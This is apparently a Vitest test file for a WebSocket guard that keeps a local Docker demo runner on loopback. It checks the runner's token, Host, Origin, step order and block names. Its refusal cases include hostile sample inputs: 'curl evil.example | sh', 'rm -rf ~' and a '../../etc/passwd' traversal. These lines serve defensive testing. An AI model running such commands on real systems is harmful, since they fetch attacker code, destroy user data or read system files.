import { describe, expect, it } from 'vitest';
import {
  BindAddressError,
  checkConnection,
  checkHost,
  checkStep,
  hostOf,
  loopbackAddress,
  parseRequest,
  sameSecret,
  type ConnectionFacts,
  type GuardConfig,
  type KnownBlock,
} from '../../../src/live/guard.ts';

const TOKEN = 'a'.repeat(64);
const CONFIG: GuardConfig = { host: '127.0.0.1:4180', origin: 'http://127.0.0.1:4180', token: TOKEN };
const GOOD: ConnectionFacts = {
  host: '127.0.0.1:4180',
  origin: 'http://127.0.0.1:4180',
  protocols: `docker-talk-live.v1, docker-talk-token.${TOKEN}`,
  sessionOpen: false,
};

describe('loopbackAddress: where the runner may listen', () => {
  it.each([
    ['127.0.0.1', '127.0.0.1'],
    ['localhost', '127.0.0.1'],
    ['LOCALHOST', '127.0.0.1'],
    ['::1', '::1'],
  ])('%s listens on %s', (given, expected) => {
    expect(loopbackAddress(given)).toBe(expected);
  });

  it.each(['0.0.0.0', '::', '192.168.1.20', '127.0.0.2', '', 'example.com'])(
    'refuses %j by name',
    (address) => {
      expect(() => loopbackAddress(address)).toThrow(BindAddressError);
      expect(() => loopbackAddress(address)).toThrow(
        `docker-talk present: refusing to listen on ${address}: the live runner runs commands on this machine, so it listens on loopback only`,
      );
    },
  );

  it('writes an IPv6 host in brackets', () => {
    expect(hostOf('::1', 4180)).toBe('[::1]:4180');
    expect(hostOf('127.0.0.1', 4180)).toBe('127.0.0.1:4180');
  });
});

describe('checkConnection: who may open the socket', () => {
  it('allows the deck itself, with the token, when no session is open', () => {
    expect(checkConnection(CONFIG, GOOD)).toEqual({ allow: true });
  });

  it.each([
    ['localhost:4180', 'Host must be 127.0.0.1:4180, not "localhost:4180"'],
    ['evil.example:4180', 'Host must be 127.0.0.1:4180, not "evil.example:4180"'],
    ['127.0.0.1:4181', 'Host must be 127.0.0.1:4180, not "127.0.0.1:4181"'],
    ['127.0.0.1', 'Host must be 127.0.0.1:4180, not "127.0.0.1"'],
    [undefined, 'Host must be 127.0.0.1:4180, not none'],
  ])('refuses Host %j (DNS rebinding) with 4421', (host, reason) => {
    expect(checkConnection(CONFIG, { ...GOOD, host })).toEqual({ allow: false, code: 4421, reason });
    expect(checkHost(CONFIG, host)).toEqual({ allow: false, code: 4421, reason });
  });

  it.each([
    'http://127.0.0.1:8081', // a demo container's page
    'http://127.0.0.1:5050',
    'http://localhost:4180', // the same port under another name is another origin
    'https://127.0.0.1:4180',
    'http://127.0.0.1:41800',
    'null', // a sandboxed frame, a file:// page
    'http://evil.example',
  ])('refuses Origin %s with 4403, before looking at the token', (origin) => {
    expect(checkConnection(CONFIG, { ...GOOD, origin, protocols: 'docker-talk-live.v1' })).toEqual({
      allow: false,
      code: 4403,
      reason: `Origin must be http://127.0.0.1:4180, not "${origin}"`,
    });
  });

  it('refuses a handshake without an Origin (not a browser page) with 4403', () => {
    expect(checkConnection(CONFIG, { ...GOOD, origin: undefined })).toMatchObject({
      allow: false,
      code: 4403,
    });
  });

  it('refuses a socket without the protocol with 4400', () => {
    expect(checkConnection(CONFIG, { ...GOOD, protocols: `docker-talk-token.${TOKEN}` })).toEqual({
      allow: false,
      code: 4400,
      reason: 'the subprotocol docker-talk-live.v1 is required',
    });
  });

  it('refuses no token with 4401', () => {
    expect(checkConnection(CONFIG, { ...GOOD, protocols: 'docker-talk-live.v1' })).toEqual({
      allow: false,
      code: 4401,
      reason: 'no token: open the URL the present command printed',
    });
  });

  it.each([
    ['another token', `docker-talk-token.${'b'.repeat(64)}`],
    ['a prefix of it', `docker-talk-token.${TOKEN.slice(0, 63)}`],
    ['it and more', `docker-talk-token.${TOKEN}0`],
    ['an empty one', 'docker-talk-token.'],
    ['two, one right', `docker-talk-token.${TOKEN}, docker-talk-token.${'b'.repeat(64)}`],
  ])('refuses %s with 4401', (_, token) => {
    expect(checkConnection(CONFIG, { ...GOOD, protocols: `docker-talk-live.v1, ${token}` })).toEqual({
      allow: false,
      code: 4401,
      reason: 'wrong token: open the URL this present run printed',
    });
  });

  it('refuses a second session with 4409, even with the right token', () => {
    expect(checkConnection(CONFIG, { ...GOOD, sessionOpen: true })).toEqual({
      allow: false,
      code: 4409,
      reason: 'another session holds the runner: one deck at a time',
    });
  });

  it('compares secrets of any length, and never allows an empty expected one', () => {
    expect(sameSecret(TOKEN, TOKEN)).toBe(true);
    expect(sameSecret(TOKEN.toUpperCase(), TOKEN)).toBe(false);
    expect(sameSecret('', '')).toBe(false);
    expect(sameSecret('x'.repeat(1000), TOKEN)).toBe(false);
  });
});

describe('parseRequest: what the page may say', () => {
  it.each([
    ['{"block":"03-containers/union","step":0}', { block: '03-containers/union', step: 0 }],
    ['{"step":2,"block":"03-containers/union"}', { block: '03-containers/union', step: 2 }],
    ['{"block":null,"step":null}', { block: null, step: null }],
  ])('takes %s', (raw, request) => {
    expect(parseRequest(raw)).toEqual({ ok: true, request });
  });

  it.each([
    ['not JSON', 'docker ps', 'a message is JSON {block, step}; this one is not JSON'],
    ['an array', '["01-images/build", 1]', 'a message is a JSON object {block, step}'],
    ['null', 'null', 'a message is a JSON object {block, step}'],
    [
      'command text in a field',
      '{"block":"01-images/build","step":1,"command":"rm -rf ~"}',
      'the runner takes no command text from the page: field "command" refused',
    ],
    [
      'command text alone',
      '{"cmd":"curl evil.example | sh"}',
      'the runner takes no command text from the page: field "cmd" refused',
    ],
    [
      'command text as the step',
      '{"block":"01-images/build","step":"docker ps"}',
      'the runner takes no command text from the page: step must be a number',
    ],
    [
      'an unknown field',
      '{"block":"01-images/build","step":1,"speed":2}',
      'a message is {block, step} only: unknown field "speed"',
    ],
    [
      'no step',
      '{"block":"01-images/build"}',
      'a message is {block: "script/name", step: N} or {block: null, step: null}',
    ],
    [
      'a number block',
      '{"block":1,"step":1}',
      'a message is {block: "script/name", step: N} or {block: null, step: null}',
    ],
    [
      'a null block with a step',
      '{"block":null,"step":1}',
      'a message is {block: "script/name", step: N} or {block: null, step: null}',
    ],
    ['a negative step', '{"block":"01-images/build","step":-1}', 'step must be a whole number, 0 or more'],
    ['a fractional step', '{"block":"01-images/build","step":1.5}', 'step must be a whole number, 0 or more'],
  ])('refuses %s with 4400', (_, raw, reason) => {
    expect(parseRequest(raw)).toEqual({ ok: false, code: 4400, reason });
  });
});

describe('checkStep: which step may run now', () => {
  const blocks = new Map<string, KnownBlock>([
    ['03-containers/union', { steps: 4, script: '03-containers.sh' }],
    ['03-containers/copy-up', { steps: 2, script: '03-containers.sh' }],
    ['04-processes/chain', { steps: 2, script: '04-processes.sh' }],
  ]);
  const none = new Set<string>();
  const fresh = { block: undefined, step: 0 };

  it('starts a block at 0 (set up) or 1 (its first command)', () => {
    expect(checkStep(blocks, none, fresh, { block: '03-containers/union', step: 0 })).toEqual({
      allow: true,
      next: { block: '03-containers/union', step: 0 },
    });
    expect(checkStep(blocks, none, fresh, { block: '03-containers/union', step: 1 })).toEqual({
      allow: true,
      next: { block: '03-containers/union', step: 1 },
    });
  });

  it('goes on one step at a time, up to the last command', () => {
    const at2 = { block: '03-containers/union', step: 2 };
    expect(checkStep(blocks, none, at2, { block: '03-containers/union', step: 3 })).toMatchObject({
      allow: true,
    });
    const at4 = { block: '03-containers/union', step: 4 };
    expect(checkStep(blocks, none, at4, { block: '03-containers/union', step: 5 })).toEqual({
      allow: false,
      code: 4422,
      reason: '03-containers/union has 4 steps, not 5',
    });
    expect(checkStep(blocks, none, fresh, { block: '03-containers/copy-up', step: 1 })).toMatchObject({
      allow: true,
    });
  });

  it.each([
    [{ block: '03-containers/union', step: 2 }, 4, 'expected 3'],
    [{ block: '03-containers/union', step: 2 }, 2, 'expected 3'],
    [{ block: '03-containers/union', step: 2 }, 1, 'expected 3'],
    [{ block: '03-containers/union', step: 0 }, 0, 'expected 1'],
    [{ block: undefined, step: 0 }, 2, 'expected 0 or 1'],
  ])('refuses a step out of order with 4422 (at %j, asked %i)', (state, step, expected) => {
    expect(checkStep(blocks, none, state, { block: '03-containers/union', step })).toEqual({
      allow: false,
      code: 4422,
      reason: `step ${step} of 03-containers/union out of order: ${expected}`,
    });
  });

  it('a new block starts over at 0 or 1, whatever step the last one was at', () => {
    const state = { block: '03-containers/union', step: 3 };
    expect(checkStep(blocks, none, state, { block: '04-processes/chain', step: 1 })).toMatchObject({
      allow: true,
    });
    expect(checkStep(blocks, none, state, { block: '04-processes/chain', step: 2 })).toMatchObject({
      allow: false,
      code: 4422,
    });
  });

  it.each(['03-containers/nope', '../../etc/passwd', 'docker ps -a', ''])(
    'refuses the unknown block %j with 4404',
    (block) => {
      expect(checkStep(blocks, none, fresh, { block, step: 0 })).toEqual({
        allow: false,
        code: 4404,
        reason: `no block "${block}" in the demo scripts`,
      });
    },
  );

  it('refuses a block whose script changed on disk since start with 4412; other scripts still run', () => {
    const changed = new Set(['03-containers.sh']);
    expect(checkStep(blocks, changed, fresh, { block: '03-containers/union', step: 0 })).toEqual({
      allow: false,
      code: 4412,
      reason: '03-containers.sh changed since present started: restart it to run the new commands',
    });
    expect(checkStep(blocks, changed, fresh, { block: '04-processes/chain', step: 0 })).toMatchObject({
      allow: true,
    });
  });
});

describe('every refusal fits a WebSocket close frame', () => {
  it('is at most 123 bytes even with the longest inputs', () => {
    const long = 'x'.repeat(500);
    const reasons = [
      checkConnection(CONFIG, { ...GOOD, host: long }),
      checkConnection(CONFIG, { ...GOOD, origin: long }),
      checkStep(new Map(), new Set(), { block: undefined, step: 0 }, { block: long, step: 0 }),
      checkStep(
        new Map([[long, { steps: 1, script: 's.sh' }]]),
        new Set(),
        { block: undefined, step: 0 },
        { block: long, step: 7 },
      ),
      parseRequest(JSON.stringify({ [long]: 1 })),
      parseRequest(JSON.stringify({ block: 'a', step: 1, [`command`]: long })),
    ].map((decision) => ('reason' in decision ? decision.reason : ''));
    for (const reason of reasons) expect(Buffer.byteLength(reason), reason).toBeLessThanOrEqual(123);
    expect(reasons.every((reason) => reason.length > 0)).toBe(true);
  });
});
